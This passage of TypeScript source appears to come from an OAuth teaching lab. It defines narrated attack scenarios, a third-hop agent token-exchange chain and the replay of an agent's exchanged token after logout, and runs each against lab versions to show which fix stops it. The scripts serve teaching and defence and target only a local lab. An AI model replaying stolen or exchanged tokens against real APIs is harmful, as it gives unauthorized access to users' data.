    stoppedBy: 'a depth limit on the act chain, two agents: invalid_request (RFC 8693 §4.1)',
    async run(plain, say) {
      if (!(await offersTokenExchange(plain))) return noExchange(say);
      const lab = plain as LabWithRs;
      const { browser } = await runFlow(lab);
      const user = (await clientTokens(lab, browser)).access_token;
      const first = await exchangeAs(lab, AGENT, user, 'notes:read');
      const second = await exchangeAs(lab, SUBAGENT, first, 'notes:read');
      say(
        `user0's token → demo-agent, act ${JSON.stringify(decodeJwt(first).act)} → ` +
          `demo-subagent, act ${JSON.stringify(decodeJwt(second).act)}: two agents, the ` +
          'lab’s limit (MAX_DELEGATION_DEPTH in grants/token-exchange.ts).',
      );
      let deeper = false;
      const hops = new Map([
        [AGENT, 'demo-agent takes the sub-agent’s token back'],
        [SUBAGENT, 'demo-subagent hands its token on, to itself'],
      ]);
      for (const [who, hop] of hops) {
        const third = await postExchange(lab, who, {
          subject: second,
          actor: await ownToken(lab, who),
          scope: 'notes:read',
          resource: lab.urls.rs,
        });
        say(`A third hop, ${hop}: ${granted(third)}`);
        deeper ||= third.status === 200;
      }
      say(
        'With two registered agents, a third hop is one of them again. Each hop is one more ' +
          'party the user never chose, one level deeper in the act claim: the limit keeps ' +
          'every chain short enough to read, and a loop of agents from going on.',
      );
      return deeper;
    },
  },
  'replay-after-logout': {
    fixedIn: 'v08',
    summary: 'replay an agent’s exchanged token after the user logged out',
    stoppedBy:
      'logout revokes the login’s family, exchanged tokens included; the API that introspects refuses them (RFC 7009 §2.1, RFC 7662 §2.2)',
    async run(plain, say) {
      if (!(await offersTokenExchange(plain))) return noExchange(say);
      const lab = plain as LabWithRs;
      const { browser } = await runFlow(lab);
      const { body: outcome } = await runAgentTask(lab, browser, 'summarise-with-helper');
      const tokens = [
        ['demo-agent’s token', actingToken(outcome, AGENT.id)],
        ['demo-subagent’s token', actingToken(outcome, SUBAGENT.id)],
      ] as const;
      const agentToken = tokens[0][1];
      say(
        'user0 logs in and asks for “Summarise my notes, with a helper”: demo-agent exchanges ' +
          'user0’s token, and demo-subagent exchanges demo-agent’s (act ' +
          `${JSON.stringify(decodeJwt(tokens[1][1]).act)}). The attacker copies both ` +
          'exchanged tokens: from a log, or a compromised agent.',
      );
      const out = await submitClientForm(lab, browser, '/logout');
      say(
        `user0 logs out at the client (${out.status}). It revokes its refresh token first ` +
          '(RFC 7009), and the AS revokes the whole family: every token issued from that ' +
          'login’s code, and the tokens exchanged from them, which carry the same code.',
      );
      for (const [whose, token] of tokens) {
        say(
          `The AS, asked about ${whose} (RFC 7662): ${JSON.stringify(await introspect(lab, token))}`,
        );
      }
      await setValidation(lab, 'jwt');
      const local = await apiGet(lab, '/api/notes', agentToken);
      const left = decodeJwt(agentToken).exp! - Math.floor(Date.now() / 1000);
      say(
        'The API checks JWTs by itself (its default): the attacker replays demo-agent’s token, ' +
          `GET /api/notes: ${local.status}. Its signature is good and it has ${left} s left; ` +
          'nothing in it says the AS revoked it.',
      );
      await setValidation(lab, 'introspection');
      const asked = await apiGet(lab, '/api/notes', agentToken);
      say(`The API switched to introspection (its home page), the same replay: ${refusal(asked)}`);
      say(
        'Chapter 6’s trade-off, now with agents: an API that asks the AS refuses the replay at ' +
          'once; one that checks JWTs alone accepts it until it expires, within 60 s, and never ' +
          'later than the user’s own token: an exchange gives no longer life than its subject ' +
          'token has left. The verdict below is for the API that asks.',
      );
      return asked.status === 200;
    },
  },
};

/** What an attack came to against one version: what `npm run attacks` puts in a cell. */
export type Outcome = 'works' | 'refused' | 'n/a';

export interface AttackResult {
  outcome: Outcome;
  /** Everything the narration said, in order. */
  said: string[];
  /** Its last line: what the narration gives as the reason, at the outcome. */
  reason: string;
}

/**
 * Run the attack `name` against `version` (a folder name) on a lab of its own, on free
 * ports, narrating to `say` (by default, quietly: the lines are only returned).
 */
export async function runAttack(
  name: string,
  version: string,
  say: (line: string) => void = () => {},
): Promise<AttackResult> {
  const attack = attacks[name];
  if (!attack) throw new Error(`There is no attack called "${name}"`);
  const said: string[] = [];
  const lab = await startVersion(version);
  try {
    const worked = await attack.run(
      lab,
      (line) => {
        said.push(line);
        say(line);
      },
      version,
    );
    const outcome = worked === 'n/a' ? 'n/a' : worked ? 'works' : 'refused';
    return { outcome, said, reason: said.at(-1) ?? '' };
  } finally {
    await lab.close();
  }
}

async function main() {
  const args = process.argv.slice(2);
  const [name, requested] = args.filter((arg) => !arg.startsWith('--'));
  const attack = name ? attacks[name] : undefined;
  // `npm run attack <name> --browser`: npm takes --browser as its own setting and passes it on
  // as npm_config_browser; `-- --browser` and tsx pass it as an argument.
  const browser = args.includes('--browser') || process.env.npm_config_browser === 'true';
  if (attack && browser) {
    // The attacker's site instead of the narration (scripts/evil.ts).
    const { runEvil } = await import('./evil.ts');
    return runEvil(name, requested);
  }
  if (!attack) {
    console.error(
      'Usage: npm run attack <name> [version] [--browser]\n\nAttacks, and the version that stops each:',
    );
    for (const [key, { fixedIn, summary }] of Object.entries(attacks)) {
      console.error(`  ${key.padEnd(22)} ${fixedIn}  ${summary}`);
    }
    process.exit(name ? 1 : 0);
  }

  const versions = requested ? [findVersion(requested)] : beforeAndFix(attack.fixedIn);
  if (versions.some((version) => !version)) {
    console.error(
      `There is no version called "${requested}". Versions: ${listVersions().join(', ')}`,
    );
    process.exit(1);
  }

  for (const version of versions as string[]) {
    console.log(`\n== ${name} against ${version}`);
    const { outcome } = await runAttack(name!, version, (line) => console.log(`  ${line}`));
    console.log(
      outcome === 'n/a'
        ? `  – nothing to attack in ${version}`
        : outcome === 'works'
          ? `  ✗ ATTACK WORKED against ${version}`
          : `  ✓ attack stopped by ${version}`,
    );
  }
}

// Run as a script (npm run attack), not when imported (npm run attacks, the tests). Not a
// top-level await: --browser imports scripts/evil.ts, which imports this module, and would
// wait on it for ever.
if (process.argv[1] && path.resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  main().catch((err: unknown) => {
    console.error(err);
    process.exit(1);
  });
}
